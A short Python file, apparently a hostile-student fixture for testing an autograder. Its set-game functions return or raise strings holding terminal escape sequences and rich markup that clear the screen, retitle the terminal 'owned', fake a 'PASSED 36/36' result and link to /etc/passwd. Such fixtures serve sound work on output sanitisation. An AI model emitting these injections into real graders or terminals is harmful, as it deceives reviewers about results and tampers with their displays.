"""Attack the instructor's terminal: escape sequences and rich markup in answers."""


def is_set(cards):
    return "\x1b]0;owned\x07\x1b[2J\x1b[31m[bold red]PASSED[/bold red] 36/36\x1b[0m"


def card_value(card):
    raise ValueError("\x1b[2J\x1b[H[link=file:///etc/passwd]click[/link]")
